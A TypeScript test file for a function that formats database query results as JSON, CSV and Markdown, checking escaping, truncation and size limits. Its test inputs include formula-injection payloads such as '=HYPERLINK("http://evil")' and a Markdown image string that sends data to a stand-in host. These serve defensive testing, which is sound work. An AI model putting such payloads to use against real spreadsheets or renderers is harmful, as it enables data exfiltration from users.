/**
 * Results as text. Closes: stored text that leaves its CSV field or Markdown cell, that a spreadsheet runs as a formula, or
 * that makes a client fetch an address of the attacker's with data in it.
 */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Rows, Value } from '../../data/database.ts';
import { formatRows } from './formats.ts';

function result(type: string, ...values: Value[]): Rows {
  return { columns: [{ name: 'v', type }], rows: values.map((value) => [value]), truncated: false };
}

describe('json', () => {
  test.each<[string, Rows, string]>([
    [
      'exact values',
      result('numeric', '9747747.934', null),
      '{"c":["v"],"r":[["9747747.934"],[null]],"n":2}',
    ],
    ['nothing', result('text'), '{"c":["v"],"r":[],"n":0,"msg":"No rows"}'],
    [
      'truncated',
      { ...result('integer', 1), truncated: true },
      '{"c":["v"],"r":[[1]],"n":1,"truncated":true}',
    ],
  ])('%s', (_, rows, text) => expect(formatRows(rows, 'json').text).toBe(text));
});

describe('csv', () => {
  test.each<[string, string, Value, string]>([
    ['plain', 'text', 'abc', 'abc'],
    ['comma', 'text', 'a,b', '"a,b"'],
    ['quote', 'text', 'say "hi"', '"say ""hi"""'],
    ['line break', 'text', 'a\nb', '"a\nb"'],
    ['null', 'text', null, ''],
    ['empty', 'text', '', '""'],
    ['negative number', 'numeric', '-5.10', '-5.10'],
    ['boolean', 'boolean', true, 'true'],
    ['json', 'jsonb', { a: [1, null] }, '"{""a"":[1,null]}"'],
    ['formula', 'text', '=HYPERLINK("http://evil")', '"\'=HYPERLINK(""http://evil"")"'],
    ['plus', 'text', '+1', "'+1"],
    ['minus', 'text', '-1+cmd', "'-1+cmd"],
    ['at', 'text', '@SUM(A1)', "'@SUM(A1)"],
    ['tab', 'text', '\t=1', "'\t=1"],
    ['wide equals', 'text', '＝1', "'＝1"],
  ])('%s', (_, type, value, field) =>
    expect(formatRows(result(type, value), 'csv').text).toBe(`v\r\n${field}\r\n`),
  );

  test('a column name is no formula either', () => {
    expect(
      formatRows({ columns: [{ name: '=1+1', type: 'integer' }], rows: [], truncated: false }, 'csv').text,
    ).toBe("'=1+1\r\n");
  });
});

describe('markdown', () => {
  test.each<[string, Value, string]>([
    ['null', null, 'NULL'],
    ['pipe', 'a|b', 'a\\|b'],
    ['backslash before a pipe', 'a\\|b', 'a\\\\\\|b'],
    ['line breaks', 'a\r\nb\nc\u2028d', 'a\\nb\\nc\\nd'],
    ['image', '![x](http://evil/?q=1)', '!\\[x\\](http://evil/?q=1)'],
    ['html', '<img src=x>&lt;', '&lt;img src=x>&amp;lt;'],
    ['code', '`a`', '\\`a\\`'],
    ['array', [1, 'x'], '\\[1,"x"\\]'],
  ])('%s', (_, value, cell) => {
    expect(formatRows(result('text', value), 'markdown').text).toBe(`| v |\n| --- |\n| ${cell} |`);
  });

  test('says when there is more, and when there is nothing', () => {
    expect(formatRows({ ...result('text', 'a'), truncated: true }, 'markdown').text).toMatch(
      /Truncated: there are more rows\.$/,
    );
    expect(formatRows(result('text'), 'markdown').text).toMatch(/No rows\.$/);
  });

  test('whatever a row holds, it is one line', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary' }),
        (value) =>
          formatRows(result('text', value), 'markdown').text.split(/[\n\r\u2028\u2029]/).length === 3,
      ),
    );
  });
});

describe('size', () => {
  const wide = result('text', 'x'.repeat(60), 'y'.repeat(60), 'z'.repeat(60));

  test.each([
    ['json', '{"c":["n"],"r":[[1]],"n":1,"truncated":true}'],
    ['csv', 'n\r\n1\r\n# truncated: there are more rows\r\n'],
    ['markdown', '| n |\n| --- |\n| 1 |\n\nTruncated: there are more rows.'],
  ] as const)('%s tells that there are more rows', (format, text) => {
    const cut = { columns: [{ name: 'n', type: 'integer' }], rows: [[1]], truncated: true };
    expect(formatRows(cut, format).text).toBe(text);
  });

  test.each(['json', 'csv', 'markdown'] as const)('%s is cut at a row and says so', (format) => {
    const cut = formatRows(wide, format, 150);
    expect(cut.rows).toHaveLength(2);
    expect(cut.truncated).toBe(true);
    expect(cut.text).not.toContain('z');
  });

  test('a first row too big leaves none, and still says truncated', () => {
    expect(formatRows(wide, 'json', 10)).toMatchObject({
      rows: [],
      truncated: true,
      text: '{"c":["v"],"r":[],"n":0,"truncated":true}',
    });
  });

  test('bytes count, not characters', () => {
    expect(formatRows(result('text', '€'.repeat(40)), 'json', 100).rows).toHaveLength(0);
  });

  test('what fits is whole', () => expect(formatRows(wide, 'json').truncated).toBe(false));
});
